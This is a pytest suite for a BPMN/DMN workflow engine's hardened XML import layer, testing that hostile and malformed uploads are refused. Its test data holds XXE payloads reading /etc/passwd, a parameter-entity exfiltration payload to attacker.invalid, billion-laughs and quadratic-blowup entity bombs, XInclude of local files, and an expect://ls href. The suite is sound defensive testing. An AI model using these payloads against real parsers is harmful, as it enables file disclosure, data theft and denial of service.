"""The import layer refuses hostile and malformed diagrams with a reason, and nothing else.

Every case goes through `parse_diagrams` (the hardened reader `read_xml` underneath) with real
bytes: no mocks of lxml. A refusal is always a `DiagramRejected` whose problem names the file and
says why; any other exception fails the test. None of the inputs may make the reader fetch a file
or a URL, expand an entity, or run for long (no timing assertions: the test just has to return).
"""
from __future__ import annotations

import re
from pathlib import Path

import pytest
from lxml import etree

from app.engine.errors import DiagramProblem, DiagramRejected
from app.engine.parser import Bundle, DiagramFile, parse_diagrams
from app.engine.serializer import StateSerializer
from app.engine.xml import read_xml

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
BPMN = "http://www.omg.org/spec/BPMN/20100524/MODEL"
SPIFF = "http://spiffworkflow.org/bpmn/schema/1.0/core"
DMN13 = "https://www.omg.org/spec/DMN/20191111/MODEL/"

XML_DECL = '<?xml version="1.0" encoding="UTF-8"?>\n'


def bpmn(body: str, process_id: str = "p", executable: str | None = "true", extra_ns: str = "") -> str:
    """A BPMN document holding one process with `body` inside it."""
    flag = f' isExecutable="{executable}"' if executable is not None else ""
    return (f'<bpmn:definitions xmlns:bpmn="{BPMN}" xmlns:spiffworkflow="{SPIFF}"{extra_ns} '
            f'id="defs_{process_id}" targetNamespace="http://loanflow.test/bpmn">'
            f'<bpmn:process id="{process_id}"{flag}>{body}</bpmn:process></bpmn:definitions>')


def straight(middle: str = "", documentation: str = "") -> str:
    """start -> [middle task with id 't'] -> end; `documentation` goes on the start event."""
    doc = f"<bpmn:documentation>{documentation}</bpmn:documentation>" if documentation else ""
    if not middle:
        return (f'<bpmn:startEvent id="s">{doc}<bpmn:outgoing>f1</bpmn:outgoing></bpmn:startEvent>'
                '<bpmn:sequenceFlow id="f1" sourceRef="s" targetRef="e"/>'
                '<bpmn:endEvent id="e"><bpmn:incoming>f1</bpmn:incoming></bpmn:endEvent>')
    return (f'<bpmn:startEvent id="s">{doc}<bpmn:outgoing>f1</bpmn:outgoing></bpmn:startEvent>'
            '<bpmn:sequenceFlow id="f1" sourceRef="s" targetRef="t"/>'
            f'{middle}'
            '<bpmn:sequenceFlow id="f2" sourceRef="t" targetRef="e"/>'
            '<bpmn:endEvent id="e"><bpmn:incoming>f2</bpmn:incoming></bpmn:endEvent>')


MINIMAL = bpmn(straight())
# A BPMN document whose start event's documentation is the entity reference `&x;`.
USES_ENTITY = bpmn(straight(documentation="&x;"))
USES_LOL = bpmn(straight(documentation="&lol9;"))

LAUGHS = '<!ENTITY lol0 "lol">' + "".join(
    f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
QUADRATIC_VALUE = "A" * 50_000
QUADRATIC = (f'<!DOCTYPE bpmn:definitions [<!ENTITY x "{QUADRATIC_VALUE}">]>'
             + bpmn(straight(documentation="&x;" * 20_000)))
PADDING = "<!--" + " " * 5000 + "-->"  # pushes a DOCTYPE past the first 4 KB of the file

DOCTYPE = r"DOCTYPE"
MALFORMED = r"^malformed XML: \S"

# (case id, file content, max_bytes, pattern the reason must match)
HOSTILE = [
    ("external-entity-file",
     XML_DECL + '<!DOCTYPE bpmn:definitions [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + USES_ENTITY,
     None, DOCTYPE),
    ("external-entity-http",
     '<!DOCTYPE bpmn:definitions [<!ENTITY x SYSTEM "http://attacker.invalid/leak">]>' + USES_ENTITY,
     None, DOCTYPE),
    ("external-dtd-http",
     XML_DECL + '<!DOCTYPE bpmn:definitions SYSTEM "http://attacker.invalid/evil.dtd">' + MINIMAL,
     None, DOCTYPE),
    ("external-dtd-local-file",
     '<!DOCTYPE bpmn:definitions SYSTEM "file:///etc/passwd">' + USES_ENTITY, None, DOCTYPE),
    ("external-dtd-public-id",
     '<!DOCTYPE bpmn:definitions PUBLIC "-//EVIL//DTD//EN" "http://attacker.invalid/evil.dtd">' + MINIMAL,
     None, DOCTYPE),
    ("billion-laughs",
     XML_DECL + f"<!DOCTYPE bpmn:definitions [{LAUGHS}]>" + USES_LOL, None, DOCTYPE),
    ("quadratic-blowup", QUADRATIC, None, DOCTYPE),
    ("parameter-entity-file",
     '<!DOCTYPE bpmn:definitions [<!ENTITY % remote SYSTEM "file:///etc/passwd"> %remote;]>' + MINIMAL,
     None, DOCTYPE),
    ("parameter-entity-exfiltration",
     '<!DOCTYPE bpmn:definitions [<!ENTITY % file SYSTEM "file:///etc/hostname">'
     '<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'http://attacker.invalid/?x=%file;\'>">'
     '%eval; %exfil;]>' + MINIMAL,
     None, DOCTYPE),
    ("internal-entity-only",
     '<!DOCTYPE bpmn:definitions [<!ENTITY x "harmless">]>' + USES_ENTITY, None, DOCTYPE),
    ("entity-declaration-deep-in-file",
     XML_DECL + PADDING + '<!DOCTYPE bpmn:definitions [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
     + USES_ENTITY, None, DOCTYPE),
    ("external-dtd-deep-in-file",
     XML_DECL + PADDING + '<!DOCTYPE bpmn:definitions SYSTEM "file:///etc/passwd">' + USES_ENTITY,
     None, DOCTYPE),
    ("malformed-unclosed-tag",
     f'<bpmn:definitions xmlns:bpmn="{BPMN}"><bpmn:process id="p" isExecutable="true">'
     '<bpmn:startEvent id="s"></bpmn:process></bpmn:definitions>', None, MALFORMED),
    ("malformed-truncated", MINIMAL[: len(MINIMAL) // 2], None, MALFORMED),
    ("malformed-two-roots", MINIMAL + MINIMAL, None, MALFORMED),
    ("malformed-unbound-prefix",
     '<bpmn:definitions><bpmn:process id="p"/></bpmn:definitions>', None, MALFORMED),
    ("empty-file", b"", None, r"empty"),
    ("whitespace-only", b"  \n\t\r\n ", None, r"empty"),
    ("non-xml-png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01" + bytes(range(256)), None,
     MALFORMED),
    ("non-xml-random-bytes", bytes((i * 131 + 7) % 256 for i in range(2048)), None, MALFORMED),
    ("non-xml-json", b'{"process": "p", "isExecutable": true}', None, MALFORMED),
    ("non-xml-text", b"Please approve the loan for ACME Ltd.", None, MALFORMED),
    ("wrong-root-svg",
     '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="30">'
     '<image xlink:href="expect://ls"/></svg>', None, r"not a BPMN or DMN document.*svg"),
    ("wrong-root-random-xml",
     "<invoice><amount>100</amount><currency>CNY</currency></invoice>", None,
     r"not a BPMN or DMN document.*invoice"),
    ("wrong-root-definitions-in-other-namespace",
     '<definitions xmlns="http://example.com/not-bpmn"><process id="p"/></definitions>', None,
     r"not a BPMN or DMN document"),
    ("wrong-root-bpmn-element-not-definitions",
     f'<bpmn:process xmlns:bpmn="{BPMN}" id="p" isExecutable="true"/>', None,
     r"not a BPMN or DMN document.*process"),
    ("over-size-limit", MINIMAL, 128, r"larger than the limit of 128"),
    ("no-executable-process-false", bpmn(straight(), executable="false"), None,
     r"no executable process"),
    ("no-process-at-all",
     f'<bpmn:definitions xmlns:bpmn="{BPMN}" id="d" targetNamespace="t">'
     '<bpmn:message id="m" name="hello"/></bpmn:definitions>', None, r"no executable process"),
]

UTF16_CASES = [
    # The byte check for '<!DOCTYPE' cannot see UTF-16/32 text: the reader must still refuse.
    ("utf16-external-entity",
     '<?xml version="1.0" encoding="UTF-16"?>'
     '<!DOCTYPE bpmn:definitions [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + USES_ENTITY, "utf-16"),
    ("utf16-external-dtd",
     '<?xml version="1.0" encoding="UTF-16"?>'
     '<!DOCTYPE bpmn:definitions SYSTEM "file:///etc/passwd">' + USES_ENTITY, "utf-16"),
    ("utf16-billion-laughs",
     f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE bpmn:definitions [{LAUGHS}]>' + USES_LOL,
     "utf-16"),
    ("utf32-parameter-entity",
     '<?xml version="1.0" encoding="UTF-32"?>'
     '<!DOCTYPE bpmn:definitions [<!ENTITY % remote SYSTEM "file:///etc/passwd"> %remote;]>' + MINIMAL,
     "utf-32"),
]
UTF16_REFUSED = r"DOCTYPE|malformed XML: .*(amplification|entity|Entity)"

CALL_ACTIVITY_WITHOUT_TARGET = bpmn(straight(
    '<bpmn:callActivity id="t"><bpmn:incoming>f1</bpmn:incoming><bpmn:outgoing>f2</bpmn:outgoing>'
    '</bpmn:callActivity>'))
DECISION_NOT_DEPLOYED = bpmn(straight(
    '<bpmn:businessRuleTask id="t"><bpmn:extensionElements>'
    '<spiffworkflow:calledDecisionId>credit_grade</spiffworkflow:calledDecisionId>'
    '</bpmn:extensionElements><bpmn:incoming>f1</bpmn:incoming><bpmn:outgoing>f2</bpmn:outgoing>'
    '</bpmn:businessRuleTask>'))

# (case id, content, element id the problem must name, pattern the reason must match); a process without a
# start event and an exclusive gateway's flow without a condition run now, as BPMN and Camunda 7 mean them
# (tests/unit/test_implicit_flow.py)
# A service task that names no implementation is no parser refusal either: the strict check names it and
# the map-operator command that maps it by its name (tests/unit/test_camunda_services.py); nor is a
# multi-instance marker saying neither how many nor over what (tests/unit/test_camunda_multi_instance.py)
SPIFF_REJECTS = [
    ("call-activity-without-called-element", CALL_ACTIVITY_WITHOUT_TARGET, "t",
     r"calledElement.*Call Activity"),
    ("business-rule-task-with-unknown-decision", DECISION_NOT_DEPLOYED, "t",
     r"No DMN Diagram available with id \"credit_grade\""),
]


def dmn(decisions: str, prefix: str | None = None, extra_ns: str = "") -> str:
    if prefix:
        return (f'<{prefix}:definitions xmlns:{prefix}="{DMN13}"{extra_ns} id="defs" name="D" '
                f'namespace="http://loanflow.test/dmn">{decisions}</{prefix}:definitions>')
    return (f'<definitions xmlns="{DMN13}"{extra_ns} id="defs" name="D" namespace="http://loanflow.test/dmn">'
            f"{decisions}</definitions>")


def decision(decision_id: str, tag: str = "") -> str:
    p = f"{tag}:" if tag else ""
    return (f'<{p}decision id="{decision_id}" name="{decision_id}">'
            f'<{p}decisionTable id="{decision_id}_table">'
            f'<{p}input id="{decision_id}_in" label="Score"><{p}inputExpression id="{decision_id}_ie" typeRef="number">'
            f"<{p}text>score</{p}text></{p}inputExpression></{p}input>"
            f'<{p}output id="{decision_id}_out" name="grade" typeRef="string"/>'
            f'<{p}rule id="{decision_id}_r1"><{p}inputEntry id="{decision_id}_r1i"><{p}text>&gt;= 700</{p}text></{p}inputEntry>'
            f'<{p}outputEntry id="{decision_id}_r1o"><{p}text>"A"</{p}text></{p}outputEntry></{p}rule>'
            f'<{p}rule id="{decision_id}_r2"><{p}inputEntry id="{decision_id}_r2i"><{p}text></{p}text></{p}inputEntry>'
            f'<{p}outputEntry id="{decision_id}_r2o"><{p}text>"B"</{p}text></{p}outputEntry></{p}rule>'
            f"</{p}decisionTable></{p}decision>")


DMN_REJECTS = [
    # two decisions are two callable decisions now (app/engine/dmn_split.py), one requiring another of its file
    # is evaluated after it (app/engine/decision_logic.py); one requiring a decision the file lacks is refused
    ("dmn-decision-requiring-another", dmn(decision("credit_grade") + decision("risk_band").replace(
        '<decisionTable', '<informationRequirement id="ir"><requiredDecision href="#elsewhere"/>'
        '</informationRequirement><decisionTable', 1)),
     r"the decision risk_band requires the decision elsewhere \(informationRequirement\), which this file does not "
     r"hold"),
    ("dmn-decision-without-a-table", dmn('<decision id="fee" name="Fee"><literalExpression id="le"><text>1</text>'
                                         '</literalExpression></decision>'),
     r"the decision fee is a literalExpression, not a decision table"),
    ("dmn-no-decision", dmn('<inputData id="score" name="Score"/>'), r"holds no decision"),
    ("dmn-prefixed-elements", dmn(decision("credit_grade", tag="semantic"), prefix="semantic"),
     r"prefix 'semantic:'"),
    ("dmn-unknown-table-element",
     dmn(decision("credit_grade").replace("</decisionTable>", '<annotationEntry id="x"/></decisionTable>')),
     r"Unknown type in decision table"),
]


def _as_bytes(content: str | bytes) -> bytes:
    return content if isinstance(content, bytes) else content.encode("utf-8")


def refusal(files: list[DiagramFile], max_bytes: int | None = None, context_dmn=()) -> list[DiagramProblem]:
    """The problems `parse_diagrams` refuses `files` with; any other outcome fails the test."""
    kwargs = {"max_bytes": max_bytes} if max_bytes is not None else {}
    with pytest.raises(DiagramRejected) as info:
        parse_diagrams(files, context_dmn=context_dmn, **kwargs)
    problems = info.value.problems
    assert problems, "a DiagramRejected must carry at least one problem"
    for problem in problems:
        assert isinstance(problem, DiagramProblem)
        assert problem.reason.strip(), f"empty reason in {problem!r}"
        assert problem.severity == "error"
    return problems


def only_problem_for(problems: list[DiagramProblem], filename: str) -> DiagramProblem:
    mine = [p for p in problems if p.file == filename]
    assert mine, f"no problem names {filename!r}: {problems!r}"
    return mine[0]


@pytest.mark.parametrize(("content", "max_bytes", "pattern"),
                         [pytest.param(c, m, p, id=i) for i, c, m, p in HOSTILE])
def test_hostile_or_malformed_input_is_refused_with_a_reason(content, max_bytes, pattern):
    data = _as_bytes(content)
    problems = refusal([DiagramFile("upload.bpmn", data)], max_bytes)
    problem = only_problem_for(problems, "upload.bpmn")
    assert re.search(pattern, problem.reason), problem.reason
    # Nothing read from the host ends up in the answer a client sees.
    assert "root:" not in str(problems)


@pytest.mark.parametrize(("text", "encoding"), [pytest.param(t, e, id=i) for i, t, e in UTF16_CASES])
def test_declarations_in_wide_encodings_are_refused(text, encoding):
    data = text.encode(encoding)
    assert b"<!doctype" not in data.lower()  # the case is only meaningful if the byte check is blind
    problems = refusal([DiagramFile("wide.bpmn", data)])
    problem = only_problem_for(problems, "wide.bpmn")
    assert re.search(UTF16_REFUSED, problem.reason), problem.reason
    assert "root:" not in str(problems)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-32"])
def test_external_dtd_answer_does_not_reveal_whether_a_local_file_exists(tmp_path, encoding):
    """An existing and a missing file give the same answer, so the reader opened neither."""
    existing = tmp_path / "secret.txt"  # any local file: it is not a DTD, libxml2 would complain
    existing.write_text("SECRET-FROM-DISK: this is not a DTD\n")
    reasons = []
    for target in (existing, tmp_path / "missing.dtd"):
        head = "" if encoding == "utf-8" else f'<?xml version="1.0" encoding="{encoding.upper()}"?>'
        pad = PADDING if encoding == "utf-8" else ""
        text = f'{head}{pad}<!DOCTYPE bpmn:definitions SYSTEM "{target.as_uri()}">' + USES_ENTITY
        problems = refusal([DiagramFile("probe.bpmn", text.encode(encoding))])
        assert "SECRET-FROM-DISK" not in str(problems)
        reasons.append(only_problem_for(problems, "probe.bpmn").reason)
    assert reasons[0] == reasons[1]
    assert "DOCTYPE" in reasons[0]


def test_read_xml_refuses_the_same_inputs_directly():
    with pytest.raises(DiagramRejected) as info:
        read_xml(_as_bytes(HOSTILE[5][1]), "bomb.bpmn")  # billion laughs
    assert info.value.problems[0].file == "bomb.bpmn"
    assert "DOCTYPE" in info.value.problems[0].reason
    with pytest.raises(TypeError):
        read_xml(MINIMAL, "text-not-bytes.bpmn")  # type: ignore[arg-type]


def test_malformed_xml_reports_the_line():
    text = MINIMAL.replace("<bpmn:process", "\n\n<bpmn:process").replace('<bpmn:endEvent id="e">', "\n\n\n<bpmn:endEvent id=e>")
    problem = only_problem_for(refusal([DiagramFile("lines.bpmn", text.encode())]), "lines.bpmn")
    assert problem.reason.startswith("malformed XML")
    assert problem.line == 6


@pytest.mark.parametrize("href_kind", ["local-file", "etc-hostname"])
def test_xinclude_is_never_expanded(tmp_path, href_kind):
    marker = "LOANFLOW-XINCLUDE-MARKER-7f3c"
    secret = tmp_path / "secret.txt"
    secret.write_text(marker)
    href = secret.as_uri() if href_kind == "local-file" else "file:///etc/hostname"
    forbidden = [marker]
    hostname = Path("/etc/hostname")
    if href_kind == "etc-hostname" and hostname.is_file() and hostname.read_text().strip():
        forbidden.append(hostname.read_text().strip())
    include = f'<xi:include href="{href}" parse="text"/>'
    data = bpmn(straight(documentation=include),
                extra_ns=' xmlns:xi="http://www.w3.org/2001/XInclude"').encode()

    root = read_xml(data, "xinclude.bpmn")
    tree_text = etree.tostring(root, encoding="unicode")
    assert root.xpath("//xi:include", namespaces={"xi": "http://www.w3.org/2001/XInclude"})
    for text in forbidden:
        assert text not in tree_text

    try:
        bundle = parse_diagrams([DiagramFile("xinclude.bpmn", data)])
    except DiagramRejected as exc:
        problem = only_problem_for(exc.problems, "xinclude.bpmn")
        assert problem.reason.strip()
        for text in forbidden:
            assert text not in str(exc)
    else:
        parsed = bundle.processes["p"]
        spec_text = StateSerializer().dump_spec(parsed.spec, parsed.embedded)
        for text in forbidden:
            assert text not in spec_text


@pytest.mark.parametrize(("content", "element_id", "pattern"),
                         [pytest.param(c, e, p, id=i) for i, c, e, p in SPIFF_REJECTS])
def test_bpmn_that_spiffworkflow_cannot_run_is_refused(content, element_id, pattern):
    problem = only_problem_for(refusal([DiagramFile("model.bpmn", content.encode())]), "model.bpmn")
    assert re.search(pattern, problem.reason), problem.reason
    if element_id is not None:
        assert problem.element_id == element_id


@pytest.mark.parametrize(("content", "pattern"), [pytest.param(c, p, id=i) for i, c, p in DMN_REJECTS])
def test_dmn_that_spiffworkflow_cannot_evaluate_is_refused(content, pattern):
    problem = only_problem_for(refusal([DiagramFile("rules.dmn", content.encode())]), "rules.dmn")
    assert re.search(pattern, problem.reason), problem.reason
    assert not re.match(r"(IndexError|AttributeError|KeyError|TypeError|XPathEvalError)\b", problem.reason)


def test_duplicate_process_id_across_two_files_is_refused():
    first = DiagramFile("first.bpmn", bpmn(straight(), process_id="loan_review").encode())
    second = DiagramFile("second.bpmn", bpmn(straight(documentation="copy"), process_id="loan_review").encode())
    problems = refusal([first, second])
    problem = only_problem_for(problems, "second.bpmn")
    assert re.search(r"Duplicate process ID: loan_review", problem.reason), problem.reason
    assert problem.element_id == "loan_review"


def test_one_bad_file_in_an_upload_names_only_that_file():
    good = DiagramFile("good.bpmn", MINIMAL.encode())
    bad = DiagramFile("bad.bpmn", HOSTILE[0][1].encode())
    problems = refusal([good, bad])
    assert {p.file for p in problems} == {"bad.bpmn"}
    assert "DOCTYPE" in problems[0].reason


def test_context_dmn_is_read_by_the_hardened_reader_too():
    hostile = DiagramFile("deployed.dmn", ('<!DOCTYPE definitions [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                                            + dmn(decision("credit_grade"))).encode())
    with pytest.raises(DiagramRejected) as info:
        parse_diagrams([DiagramFile("model.bpmn", MINIMAL.encode())], context_dmn=[hostile])
    assert info.value.problems[0].file == "deployed.dmn"
    assert "DOCTYPE" in info.value.problems[0].reason


# -- what must still be accepted ------------------------------------------------------------

def test_minimal_valid_bpmn_parses():
    bundle = parse_diagrams([DiagramFile("minimal.bpmn", (XML_DECL + MINIMAL).encode())])
    assert isinstance(bundle, Bundle)
    assert list(bundle.processes) == ["p"]
    parsed = bundle.processes["p"]
    assert parsed.file.filename == "minimal.bpmn"
    assert {"s", "e"} <= {ts.bpmn_id for ts in parsed.spec.task_specs.values()}
    assert (parsed.calls, parsed.decisions, parsed.forms, parsed.operators) == ([], [], [], [])


def test_process_without_is_executable_counts_as_executable():
    """BPMN gives isExecutable no default; SpiffWorkflow (and the corpus manifest) treat it as true."""
    bundle = parse_diagrams([DiagramFile("unflagged.bpmn", bpmn(straight(), executable=None).encode())])
    assert list(bundle.processes) == ["p"]


def test_spiffworkflow_deprecation_warnings_are_findings_not_refusals():
    """Older spiff-arena diagrams keep the message payload on bpmn:message (deprecated in 3.x).

    The suite runs with warnings as errors; the import must still accept the diagram and report
    the deprecation as a warning finding.
    """
    throw = ('<bpmn:intermediateThrowEvent id="t"><bpmn:incoming>f1</bpmn:incoming>'
             '<bpmn:outgoing>f2</bpmn:outgoing><bpmn:messageEventDefinition id="md" messageRef="m"/>'
             '</bpmn:intermediateThrowEvent>')
    text = bpmn(straight(throw)).replace(
        "</bpmn:definitions>",
        '<bpmn:message id="m" name="loan_signed"><bpmn:extensionElements>'
        "<spiffworkflow:messagePayload>{'loan': loan_id}</spiffworkflow:messagePayload>"
        "</bpmn:extensionElements></bpmn:message></bpmn:definitions>")
    bundle = parse_diagrams([DiagramFile("message.bpmn", text.encode())])
    assert list(bundle.processes) == ["p"]
    (finding,) = bundle.warnings
    assert finding.severity == "warning"
    assert finding.file == "message.bpmn"
    assert finding.reason.startswith("DeprecationWarning: spiffworkflow:messagePayload")


def test_comments_and_processing_instructions_are_harmless():
    text = XML_DECL + "<!-- drawn by hand -->" + MINIMAL.replace(
        "<bpmn:process", '<?xml-stylesheet href="http://attacker.invalid/x.xsl"?><bpmn:process')
    bundle = parse_diagrams([DiagramFile("commented.bpmn", text.encode())])
    assert list(bundle.processes) == ["p"]


def test_twelve_steps_fixture_parses():
    path = FIXTURES / "bpmn" / "twelve_steps.bpmn"
    bundle = parse_diagrams([DiagramFile(path.name, path.read_bytes())])
    assert "twelve_steps" in bundle.processes
    parsed = bundle.processes["twelve_steps"]
    assert parsed.name == "Twelve steps (benchmark shape)"
    assert parsed.file.filename == "twelve_steps.bpmn"
    assert {"review", "approve"} <= {ts.bpmn_id for ts in parsed.spec.task_specs.values()}


def test_bpmn_and_its_dmn_parse_together():
    rule_task = DECISION_NOT_DEPLOYED
    bundle = parse_diagrams([DiagramFile("grade.bpmn", rule_task.encode()),
                             DiagramFile("grade.dmn", dmn(decision("credit_grade")).encode())])
    assert list(bundle.decisions) == ["credit_grade"]
    assert bundle.processes["p"].decisions == ["credit_grade"]
    # The same decision, already deployed, serves as context instead.
    bundle = parse_diagrams([DiagramFile("grade.bpmn", rule_task.encode())],
                            context_dmn=[DiagramFile("deployed.dmn", dmn(decision("credit_grade")).encode())])
    assert bundle.processes["p"].decisions == ["credit_grade"]
    assert bundle.decisions == {}


def test_dmn_with_literal_dmn_prefix_parses():
    text = dmn(decision("credit_grade", tag="dmn"), prefix="dmn")
    bundle = parse_diagrams([DiagramFile("prefixed.dmn", text.encode())])
    assert list(bundle.decisions) == ["credit_grade"]


def test_size_limit_is_inclusive():
    data = MINIMAL.encode()
    bundle = parse_diagrams([DiagramFile("exact.bpmn", data)], max_bytes=len(data))
    assert list(bundle.processes) == ["p"]
    problem = only_problem_for(refusal([DiagramFile("exact.bpmn", data)], max_bytes=len(data) - 1), "exact.bpmn")
    assert f"larger than the limit of {len(data) - 1}" in problem.reason
